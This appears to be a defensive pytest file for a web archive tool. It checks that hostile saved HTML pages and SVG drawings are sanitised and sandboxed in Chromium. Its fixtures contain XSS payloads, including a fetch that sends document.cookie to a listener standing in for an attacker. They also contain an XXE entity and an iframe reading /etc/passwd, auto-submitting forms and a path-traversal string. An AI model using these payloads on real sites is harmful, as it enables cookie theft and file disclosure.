"""Hostile captures shown as they were saved, in a real Chromium: nothing runs, nothing leaves, nothing is read.

"Outside" is a socket of this machine under another port: whatever connects to it has left the page's origin.
"""

import socket
import threading
from contextlib import contextmanager, suppress

import pytest
import web_archive
from starlette.testclient import TestClient

from dalil.archive import Archive
from dalil.web import saved
from dalil.web.app import create_app
from dalil.web.pages import saved as pages
from real_browser import ARGUMENTS, find_browser, serving

PAGE = """<!doctype html><html><head><title>Saved</title><base href="{out}/base/"><meta charset="windows-1256">
<meta http-equiv="refresh" content="0;url={out}/refresh"><link rel="preconnect" href="{out}">
<link rel="dns-prefetch" href="{out}"><link rel="prefetch" href="{out}/prefetch">
<link rel="stylesheet" href="{out}/c.css"><link rel="modulepreload" href="{out}/m.js"><link rel="icon" href="{out}/i">
<style>@import url({out}/i.css);@font-face{{font-family:x;src:url({out}/f.woff)}}
body{{background:url({out}/bg.png);font-family:x}} p{{color:rgb(1, 2, 3)}}
a{{position:fixed;inset:0;display:block}}</style>
<script>document.title='PWNED';top.document.title='PWNED';fetch('{out}/'+document.cookie)</script>
<script type="speculationrules">{{"prerender":[{{"source":"list","urls":["{out}/spec"]}}]}}</script></head>
<body onload="document.body.id='PWNED';top.location='{out}/top'"><p>\u0642\u0635\u0641 text</p>
<img src="{out}/pixel.png" onerror="top.document.title='PWNED'"><img srcset="{out}/s.png 1x">
<img alt="its own" src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==">
<video src="{out}/v.mp4" autoplay poster="{out}/poster"></video><object data="{out}/o"></object><embed src="{out}/e">
<iframe src="{out}/frame"></iframe><iframe src="file:///etc/passwd"></iframe><iframe src="/people"></iframe>
<iframe srcdoc="<img src='{out}/srcdoc'>"></iframe>
<form action="{out}/form" method="post"><input name="a" autofocus onfocus="this.form.submit()"></form>
<a href="{out}/link" ping="{out}/ping" target="_top">&nbsp;</a></body></html>"""
DRAWING = """<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY leak SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"
 onload="top.document.title='PWNED'"><script>top.document.title='PWNED';fetch('{out}/leak')</script>
<?xml-stylesheet href="{out}/x.css"?><style>@import url({out}/s.css);</style><text y="40">&leak;drawn words</text>
<image href="{out}/image.png"/><use href="{out}/use.svg#x"/><foreignObject width="100" height="100">
<iframe xmlns="http://www.w3.org/1999/xhtml" src="{out}/frame"></iframe>
<img xmlns="http://www.w3.org/1999/xhtml" src="{out}/fo" onerror="top.document.title='PWNED'"/></foreignObject>
<a xlink:href="{out}/a"><set attributeName="xlink:href" to="{out}/set"/><rect width="300" height="200"/></a>
</svg>"""


@pytest.fixture(scope="module")
def browser(browser):
    """A Chromium of their own: what hostile pages leave behind in it meets no other test."""
    own = browser.browser_type.launch(executable_path=find_browser(), args=ARGUMENTS)
    yield own
    own.close()


@contextmanager
def outside():
    """(address, what was sent there) of a socket that notes whoever connects."""
    heard, listener = [], socket.create_server(("127.0.0.1", 0))

    def listen():
        while True:
            try:
                visitor, _ = listener.accept()
            except OSError:
                return
            with visitor:
                visitor.settimeout(0.5)
                try:
                    heard.append(visitor.recv(200))
                except OSError:
                    heard.append(b"")

    threading.Thread(target=listen, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{listener.getsockname()[1]}", heard
    finally:
        listener.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """(archive, page, drawing, heard): both captured, the page read as a report too."""
    folder = tmp_path_factory.mktemp("hostile")
    with outside() as (out, heard), Archive.create(folder / "archive", "Hostile") as archive:
        report = web_archive.hostile()
        path = folder / "page.html"
        path.write_bytes(PAGE.format(out=out).encode("cp1256"))
        page = archive.capture_file(path, by="t").object.sha256
        web_archive.put_text(archive, page, report, report.claims[0].quote.text)
        path = folder / "drawing.svg"
        path.write_text(DRAWING.format(out=out), "utf-8")
        drawing = archive.capture_file(path, by="t").object.sha256
        yield archive.path, page, drawing, heard


def press(frame, x, y) -> None:
    """A press on the frame. A frame that is just being taken away never says that it was pressed: no wait for that."""
    from playwright.sync_api import TimeoutError as NeverSaid

    with suppress(NeverSaid):
        frame.click(position={"x": x, "y": y}, force=True, no_wait_after=True, timeout=5000)


def opened(browser, address, path, lang):
    """The page with the frame shown; pressed all over; what the frame then is, and what the page says."""
    context = browser.new_context(base_url=address)
    context.add_cookies([{"name": "secret", "value": "s3cret", "url": address}])
    tab = context.new_page()
    tab.goto(f"{path}?lang={lang}")
    title = tab.title()
    assert tab.locator("iframe").count() == 0
    tab.click("[data-reveal]")
    frame = tab.locator("iframe.saved")
    frame.wait_for()
    assert frame.get_attribute("sandbox") == ""
    tab.wait_for_timeout(700)
    box = frame.bounding_box()
    for x, y in ((20, 20), (120, 60), (box["width"] / 2, box["height"] / 2)):
        press(frame, x, y)
    tab.wait_for_timeout(300)
    assert tab.title() == title and tab.url.startswith(address) and len(context.pages) == 1
    assert tab.locator("#PWNED").count() == 0
    return context, tab, [f.url for f in tab.frames[1:]]


@pytest.mark.browser
@pytest.mark.parametrize("lang", ["en", "ar"])
def test_a_hostile_page_and_drawing_do_nothing_in_their_frame(browser, hostile, lang):
    path, page, drawing, heard = hostile
    with serving(path) as address:
        for where, sha256 in ((f"/sources/{page}", page), (f"/files/{drawing}", drawing)):
            context, tab, frames = opened(browser, address, where, lang)
            assert frames == [f"{address}/saved/{sha256}"]
            tab.keyboard.press("Escape")
            tab.click("[data-hide]") if tab.locator("[data-hide]").count() else None
            assert tab.locator("iframe").count() == 0
            context.close()
    assert heard == []


@pytest.mark.browser
def test_the_wall_holds_though_the_page_keeps_its_links_and_scripts(browser, hostile, monkeypatch):
    """As if the cleaning had missed everything: nothing runs and nothing is sent."""
    path, page, drawing, heard = hostile
    raw = {"text/html": "text/html; charset=windows-1256", saved.SVG: saved.SVG}
    monkeypatch.setattr(saved, "harmless", lambda data, kind: (data, raw[kind]))
    with serving(path) as address:
        for where in (f"/sources/{page}", f"/files/{drawing}"):
            context, _, frames = opened(browser, address, where, "en")
            assert all(not url.startswith("file:") and "/people" not in url for url in frames)
            context.close()
    assert not any(heard), heard  # a connection may be opened; nothing is said on it
    heard.clear()


def test_what_is_shown_is_the_page_without_what_acts_in_its_own_charset(hostile):
    path, page, drawing, _ = hostile
    with Archive.open(path) as archive:
        client = TestClient(create_app(archive), base_url="http://127.0.0.1")
        answer, drawn = client.get(f"/saved/{page}"), client.get(f"/saved/{drawing}")
        around = client.get(f"/sources/{page}").headers["content-security-policy"]
    assert answer.headers["content-type"] == "text/html; charset=utf-8" and "قصف text" in answer.text
    assert "rgb(1, 2, 3)" in answer.text and 'src="data:image/gif' in answer.text
    for word in (
        "<script",
        "<link",
        "<base",
        "<iframe",
        "<meta http",
        "onload",
        "onerror",
        "href=",
        "action=",
        "PWNED",
    ):
        assert word not in answer.text and word not in drawn.text, word
    assert "drawn words" in drawn.text and "root:" not in drawn.text
    assert drawn.headers["content-type"] == "image/svg+xml; charset=utf-8"
    for headers in (answer.headers, drawn.headers):
        policy = headers["content-security-policy"]
        assert policy.startswith("sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'")
        assert (
            "frame-ancestors 'self'" in policy and "allow" not in policy and "'self'" not in policy.split("frame-")[0]
        )
        assert headers["x-content-type-options"] == "nosniff" and headers["x-frame-options"] == "SAMEORIGIN"
        assert headers["cross-origin-resource-policy"] == "same-origin" and headers["cache-control"] == "no-store"
    assert "frame-src 'self'" in around and "frame-ancestors 'none'" in around and "unsafe" not in around


def test_only_pages_and_drawings_are_shown_so_and_none_that_is_too_large(hostile, made, client, monkeypatch):
    for sha256 in (made.news, made.clip, "0" * 64, "..%2f..%2fdalil.toml"):
        assert client.get(f"/saved/{sha256}").status_code == 404
    assert "data-reveal" not in client.get(f"/sources/{made.news}").text
    path, page, _, _ = hostile
    monkeypatch.setattr(saved, "LARGEST", 10)
    with Archive.open(path) as archive:
        other = TestClient(create_app(archive), base_url="http://127.0.0.1")
        assert other.get(f"/saved/{page}").status_code == 404
        assert "<iframe" not in other.get(f"/sources/{page}").text
    assert pages.FRAMING_POLICY.endswith("frame-src 'self'")


def test_what_claims_to_be_a_recording_and_cannot_be_read_is_not_given_to_a_browser_to_decode(tmp_path):
    (tmp_path / "broken.mp4").write_bytes(b"\0\0\0\x18ftypisom\0\0\2\0isomiso2" + b"\xff" * 500)
    with Archive.create(tmp_path / "archive") as archive:
        sha256 = archive.capture_file(tmp_path / "broken.mp4", by="t").object.sha256
        client = TestClient(create_app(archive), base_url="http://127.0.0.1")
        answer = client.get(f"/objects/{sha256}")
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"] == f'attachment; filename="{sha256[:16]}.mp4"'
